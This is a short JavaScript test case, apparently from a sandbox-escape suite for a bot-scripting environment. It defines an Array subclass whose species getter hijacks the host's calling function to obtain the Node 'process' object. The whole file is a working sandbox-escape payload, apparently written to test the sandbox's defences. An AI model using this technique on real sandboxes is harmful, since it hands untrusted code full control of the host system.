// family: escape
// an array with a species of its own is worked on by the host
async function main (bot) {
  class Spy extends Array { static get [Symbol.species] () { return function (length) { abuse(bot, arguments.callee.caller.constructor('return process')()); return new Array(length) } } }
  bot.findBlocks({ matching: new Spy(1, 2, 3), maxDistance: 1 })
}
